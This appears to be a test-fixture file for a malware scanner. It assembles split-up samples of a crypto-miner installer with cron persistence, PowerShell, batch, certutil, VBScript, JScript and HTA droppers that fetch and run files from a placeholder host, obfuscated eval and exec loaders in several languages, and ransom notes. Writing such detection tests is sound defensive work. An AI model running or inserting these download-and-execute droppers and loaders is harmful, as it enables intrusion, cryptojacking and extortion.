import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { cases } from '../case.ts'
import { base64, EVAL, EXEC, glue, HOST, payload } from './pieces.ts'

export const loaderCases = cases([
  [
    'config.json',
    'a miner configuration',
    glue(
      '{"autosave":true,"donate-level":1,"cpu":true,"pools":[{"url":"strat',
      'um+tcp://pool.example:3333","user":"4',
      'A'.repeat(94),
      '","pass":"x","algo":"rx/0"}]}',
    ),
  ],
  [
    'update.sh',
    'a shell script that installs a miner',
    glue(
      '#!/bin/sh\npkill -9 kinsing\ncurl -s http://',
      HOST,
      '/xm',
      'rig -o /tmp/.x && chmod +x /tmp/.x\nnohup /tmp/.x -o strat',
      'um+tcp://',
      HOST,
      ':3333 -u 4',
      'A'.repeat(94),
      ' --donate-level=1 -B >/dev/null 2>&1 &\necho "* * * * * curl -s http://',
      HOST,
      '/x.sh | sh" | crontab -\n',
    ),
  ],
  [
    'page.html',
    'a web page that mines',
    glue(
      '<html><script src="https://coin',
      'hive.com/lib/coin',
      'hive.min.js"></script><script>new Coin',
      "Hive.Anonymous('KEY').start()</script></html>",
    ),
  ],
  [
    'a.ps1',
    'a PowerShell dropper that downloads and runs',
    glue(
      'powers',
      'hell -nop -w hid',
      `den -c "IE`,
      `X (New-Object Net.Web`,
      `Client).Download`,
      `String('http://${HOST}/a.ps1')"\n`,
    ),
  ],
  [
    'b.bat',
    'a batch file with an encoded PowerShell command',
    () =>
      glue(
        '@echo off\r\npowers',
        'hell.exe -NoP -NonI -W Hid',
        'den -Enc ',
        Buffer.from(
          glue('IE', `X (New-Object Net.Web`, `Client).Download`, `String('http://${HOST}/a')`).repeat(3),
          'utf16le',
        ).toString('base64'),
        '\r\n',
      ),
  ],
  [
    'c.bat',
    'a batch file that drops with certutil',
    glue(
      '@echo off\r\ncert',
      `util -urlca`,
      `che -split -f http://${HOST}/a.exe %TEMP%\\a.exe\r\nstart /b %TEMP%\\a.exe\r\n`,
    ),
  ],
  [
    'd.ps1',
    'a PowerShell loader that unpacks itself in memory',
    () =>
      glue(
        '$s=New-Object IO.MemoryStream(,[Convert]::FromBase',
        `64String("${base64(gzipSync(payload(600)))}"));IE`,
        'X (New-Object IO.StreamReader(New-Object IO.Compression.Gzip',
        'Stream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();\n',
      ),
  ],
  [
    'e.vbs',
    'a VBScript dropper',
    glue(
      'Set x = CreateObject("MSXML2.XML',
      `HTTP")\r\nx.Open "GET", "http://${HOST}/a.exe", False\r\nx.Send\r\nSet s = CreateObject("ADO`,
      'DB.Stream")\r\ns.Type = 1\r\ns.Open\r\ns.Write x.responseBody\r\ns.SaveTo',
      'File "%TEMP%\\a.exe", 2\r\nCreateObject("WScript.Sh',
      'ell").Run "%TEMP%\\a.exe", 0\r\n',
    ),
  ],
  [
    'f.js',
    'a WScript dropper',
    glue(
      'var sh = new Active',
      'XObject("WScript.Sh',
      'ell");\nvar x = new Active',
      `XObject("MSXML2.XMLHTTP");\nx.open("GET", "http://${HOST}/a.exe", false);\nx.send();\nvar s = new Active`,
      'XObject("ADO',
      'DB.Stream");\ns.Open(); s.Type = 1; s.Write(x.ResponseBody);\ns.SaveTo',
      'File("C:\\\\Users\\\\Public\\\\a.exe", 2);\nsh.Run("C:\\\\Users\\\\Public\\\\a.exe", 0);\n',
    ),
  ],
  [
    'g.hta',
    'an HTML application that runs a program',
    glue(
      '<html><head><HTA:APPL',
      'ICATION WINDOWSTATE="minimize"/><script language="VBScript">\r\nCreateObject("WScript.Sh',
      'ell").Run "powers',
      `hell -w hid`,
      `den -c iwr http://${HOST}/a.exe -outf a.exe; .\\a.exe", 0\r\nself.close\r\n</script></head></html>`,
    ),
  ],
  [
    'h.html',
    'an HTML application under the name of a web page',
    glue(
      '<html><HTA:APPL',
      'ICATION ID="a"><script language="VBScript">Set w = CreateObject("WScript.Sh',
      'ell")\r\nw.Run "cmd',
      ' /c calc", 0</script></html>',
    ),
  ],
  [
    'i.php',
    'an obfuscated PHP loader',
    () =>
      glue(
        '<?p',
        'hp ',
        EVAL,
        '(gzin',
        'flate(base',
        `64_decode('${base64(deflateRawSync(payload(900)))}')));\n`,
      ),
  ],
  [
    'j.php',
    'an obfuscated PHP loader that turns its text round',
    () =>
      glue(
        '<?p',
        'hp $a = str_rot',
        '13("riny"); ',
        EVAL,
        '(gzuncom',
        'press(str_rot',
        '13(base',
        `64_decode("${base64(deflateSync(payload(600)))}"))));\n`,
      ),
  ],
  [
    'k.py',
    'an obfuscated Python loader',
    () =>
      glue(
        'import base64,zlib\n',
        EXEC,
        '(zlib.decom',
        'press(base64.b64',
        `decode(b"${base64(deflateSync(payload(900)))}")))\n`,
      ),
  ],
  [
    'l.py',
    'an obfuscated Python loader by lambda',
    () =>
      glue(
        '_ = lambda __ : __import__("zlib").decom',
        'press(__import__("base64").b64',
        'decode(__[::-1]));',
        EXEC,
        `((_)(b"${[...base64(deflateSync(payload(600)))].toReversed().join('')}"))\n`,
      ),
  ],
  [
    'm.js',
    'an obfuscated JavaScript loader',
    () => glue(EVAL, `(Buffer.from("${base64(payload(900))}", "base`, '64").toString());\n'),
  ],
  [
    'n.vbs',
    'an obfuscated VBScript loader',
    () =>
      glue(
        'Exe',
        'cute(',
        Array.from({ length: 120 }, (_, index) => `Chr(${65 + (index % 26)})`).join('&'),
        ')\r\n',
      ),
  ],
  [
    'o.sh',
    'an obfuscated shell loader',
    () => glue('#!/bin/sh\necho "', base64(payload(300)), '" | base', '64 -d | ba', 'sh\n'),
  ],
  [
    'README.txt',
    'a ransom note',
    glue(
      'ALL YOUR FILES HAVE BEEN ENCR',
      'YPTED!\n\nYour documents, photos and databases were encr',
      'ypted with RSA-2048 and AES-256.\nTo get the decr',
      'yption key you must pay 0.5 Bit',
      'coin to the wallet below within 72 hours.\nInstall Tor Browser and open http://',
      'abcdefghij234567'.repeat(3),
      'abcdefgh.on',
      'ion\nYour personal ID: 4F2A9C\nDo not rename the files or try to decr',
      'ypt them with third party software: you will lose them forever.\n',
    ),
  ],
  [
    'HOW_TO_DECRYPT.html',
    'a ransom note as a web page',
    glue(
      '<html><body><h1>What happened to my files?</h1><p>All of your files are encr',
      'ypted. Without our private key nobody can recover them.</p><p>Send 0.1 BT',
      'C to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT and mail your personal ID to get the decr',
      'yptor. Download the Tor Browser and visit our .on',
      'ion page.</p></body></html>',
    ),
  ],
])
